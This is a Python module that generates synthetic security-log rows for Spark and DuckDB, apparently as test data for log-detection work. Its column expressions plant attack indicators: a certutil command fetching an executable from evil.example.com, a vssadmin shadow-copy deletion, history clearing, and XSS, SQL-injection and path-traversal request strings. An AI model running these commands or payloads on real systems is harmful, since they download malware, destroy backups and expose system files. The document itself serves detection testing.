"""Events of the driver's table as rows of the event table, in SQL that Spark and DuckDB both read."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from ..functions import core
from ..operators import shared

K = "cast(regexp_extract(props, '([0-9]+)', 1) as int)"

COLUMNS = [
    "event_id as line_number", "'events' as source_file", "us", "concat('u', user_id) as username", "concat('h', k % 10) as hostname",
    "concat(case when user_id % 5 = 0 then '10.0.' else '45.33.' end, user_id % 250, '.', user_id % 200 + 1) as source_ip",
    "concat('192.168.1.', k) as dest_ip", "1000 + k as dest_port",
    "case event_type when 'error' then 'failure' when 'signup' then 'success' end as auth_result",
    "case event_type when 'error' then 401 when 'signup' then 201 else 200 end as http_status",
    "case when event_type in ('signup', 'purchase') then 'POST' else 'GET' end as http_method",
    "cast(floor(value * 100000) as bigint) as http_bytes",
    "case when event_type = 'view' and k < 10 then concat('/item?id=', k, '&q=%3Cscript%3Ealert(1)') when event_type = 'error' and k < 10 then concat('/login?u=%27%20OR%201%3D1--&k=', k) when k = 11 then '/static/..%2F..%2Fetc/passwd' else concat('/item?id=', k) end as http_uri",
    "case when k % 20 = 0 then 'sqlmap/1.7' else 'Mozilla/5.0' end as http_user_agent",
    "case k when 7 then 'certutil -urlcache -split -f http://evil.example.com/a.exe' when 13 then 'history -c' when 17 then 'vssadmin delete shadows /all /quiet' else concat(event_type, ' k=', k) end as message",
    "case event_type when 'error' then 'sshd' else 'nginx' end as process_name",
    "case event_type when 'error' then '4625' when 'signup' then '4624' end as event_id",
    "cast(cast(ts as date) as varchar(10)) as session_id", "hour(ts) as hour_of_day", "'apache_combined' as log_format",
]


def events(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The event rows; timestamp, and us, the same in microseconds. The table's narrow rows are dealt before columns are made of them."""
    base = shared.spread(spark.read.parquet(f"{sf_dir}/events.parquet")).selectExpr("*", f"{K} as k", "unix_micros(cast(ts as timestamp)) as us")
    out = base.selectExpr(*[x.replace("varchar(10)", "string") for x in COLUMNS])
    raw = F.concat_ws(" ", "source_ip", "http_method", "http_uri", F.col("http_status").cast("string"), "message")
    return out.select("*", F.timestamp_micros("us").alias("timestamp"), core.url_decoded("http_uri").alias("http_uri_decoded"), raw.alias("raw_line"))


EV_SQL = (
    f"base as (select *, {K} as k, epoch_us(ts) as us from events), ev0 as (select {', '.join(COLUMNS)} from base), "
    "ev as (select *, url_decode(replace(http_uri, '+', ' ')) as http_uri_decoded, concat_ws(' ', source_ip, http_method, http_uri, http_status::varchar, message) as raw_line from ev0)"
)
